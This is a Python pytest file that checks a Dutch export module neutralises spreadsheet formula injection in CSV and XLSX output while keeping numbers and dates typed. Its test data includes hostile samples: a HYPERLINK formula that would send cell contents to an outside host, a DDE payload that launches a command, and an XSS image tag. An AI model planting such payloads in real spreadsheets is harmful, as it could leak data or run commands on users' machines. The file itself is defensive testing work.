"""Exports never let uploaded text become a formula in Excel; numbers and dates keep their type."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date, datetime

import openpyxl
import polars as pl
import pytest

from cohort.workbook.exports import frame_to_csv_bytes, frame_to_xlsx_bytes, neutralise_frame, neutralise_text

HOSTILE = [
    '=HYPERLINK("https://example.invalid/?"&A1,"klik")',
    "+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\tx",
    "\rx",
    "<img src=x onerror=alert(1)>",
]


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-2+3", "'-2+3"),
        ("-5", "'-5"),  # text, even if it looks like a number
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("<img src=x onerror=alert(1)>", "<img src=x onerror=alert(1)>"),
        ("Centrum-West", "Centrum-West"),
        ("", ""),
    ],
)
def test_neutralise_text(value: str, expected: str):
    assert neutralise_text(value) == expected


def frame() -> pl.DataFrame:
    return pl.DataFrame(
        {
            "naam": HOSTILE,
            "bijstand": [1000, -5, 0, 3, 4, 5, 6],
            "aandeel": [0.25, -0.5, 1.5, 0.0, 2.0, 3.0, 4.0],
            "maand": [date(2021, 6, 1)] * len(HOSTILE),
        }
    )


def test_neutralise_frame_touches_only_text():
    result = neutralise_frame(frame())
    assert result["naam"].to_list() == [neutralise_text(v) for v in HOSTILE]
    assert result["naam"][-1] == "<img src=x onerror=alert(1)>"
    assert result["bijstand"].to_list() == frame()["bijstand"].to_list()
    assert result.schema == frame().schema


def test_neutralise_frame_handles_categoricals_and_nulls():
    df = pl.DataFrame({"soort": ["=x", None, "gebied"]}, schema={"soort": pl.Categorical})
    assert neutralise_frame(df)["soort"].to_list() == ["'=x", None, "gebied"]


def test_csv_round_trip():
    data = frame_to_csv_bytes(frame())
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data[3:].decode("utf-8"), newline=""), delimiter=";"))
    assert rows[0] == ["naam", "bijstand", "aandeel", "maand"]
    names = [row[0] for row in rows[1:]]
    for original, written in zip(HOSTILE, names, strict=True):
        if original[0] in "=+-@\t\r":
            assert written == "'" + original
        else:
            assert written == original
    assert [row[1] for row in rows[1:3]] == ["1000", "-5"]  # numbers stay numbers, unprefixed
    assert rows[1][2] == "0,25" and rows[2][2] == "-0,5"  # decimal comma for Dutch Excel
    assert rows[1][3] == "2021-06-01"


def test_csv_header_is_neutralised():
    data = frame_to_csv_bytes(pl.DataFrame({"=cmd|' /C calc'!A0": [1]}))
    assert data[3:].decode().splitlines()[0] == "'=cmd|' /C calc'!A0"


def read_back(data: bytes):
    return openpyxl.load_workbook(io.BytesIO(data))


def test_xlsx_round_trip():
    data = frame_to_xlsx_bytes(frame(), "export")
    sheet = read_back(data)["export"]
    assert [c.value for c in sheet[1]] == ["naam", "bijstand", "aandeel", "maand"]
    assert all(c.font.b for c in sheet[1])
    assert sheet.freeze_panes == "A2"
    for offset, original in enumerate(HOSTILE, start=2):
        cell = sheet.cell(row=offset, column=1)
        assert cell.data_type == "s"
        assert isinstance(cell.value, str)
        # XML reading normalises a carriage return to a line feed; the apostrophe is what matters.
        assert cell.value == neutralise_text(original).replace("\r", "\n")
        if original[0] in "=+-@\t\r":
            assert cell.value.startswith("'")
    assert sheet["B2"].value == 1000 and sheet["B3"].value == -5 and sheet["B2"].data_type == "n"
    assert sheet["C3"].value == -0.5
    assert sheet["D2"].value == datetime(2021, 6, 1) and sheet["D2"].is_date


def test_xlsx_contains_no_formula_elements():
    data = frame_to_xlsx_bytes(frame(), "export", title="=Titel")
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml and b"<f " not in sheet_xml


def test_xlsx_title_and_header_position():
    sheet = read_back(frame_to_xlsx_bytes(frame(), "export", title="Cohortaanpak — export"))["export"]
    assert sheet["A1"].value == "Cohortaanpak — export" and sheet["A1"].font.b
    assert sheet["A3"].value == "naam"
    assert sheet.freeze_panes == "A4"


def test_xlsx_survives_awkward_values():
    df = pl.DataFrame(
        {
            "tekst": ["a\x00b\x07c", "x" * 40_000, None],
            "getal": [float("nan"), float("inf"), None],
            "tijd": [datetime(2021, 6, 1, 12, 30)] * 3,
        },
        schema_overrides={"tijd": pl.Datetime(time_zone="Europe/Amsterdam")},
    )
    sheet = read_back(frame_to_xlsx_bytes(df, "Klachten [2021]: *?/"))["Klachten _2021__ ___"]
    assert sheet["A2"].value == "abc"
    assert len(sheet["A3"].value) == 32_767
    assert sheet["B2"].value is None and sheet["B3"].value is None
    assert sheet["C2"].is_date


def test_xlsx_column_widths_follow_content():
    sheet = read_back(frame_to_xlsx_bytes(pl.DataFrame({"a": ["kort", "een veel langere naam"]}), "s"))["s"]
    assert sheet.column_dimensions["A"].width == len("een veel langere naam") + 2


def test_empty_frames_export():
    assert frame_to_csv_bytes(pl.DataFrame({"naam": []}, schema={"naam": pl.String})) == b"\xef\xbb\xbfnaam\r\n"
    sheet = read_back(frame_to_xlsx_bytes(pl.DataFrame(), "leeg"))["leeg"]
    assert sheet.max_row == 1 and sheet["A1"].value is None
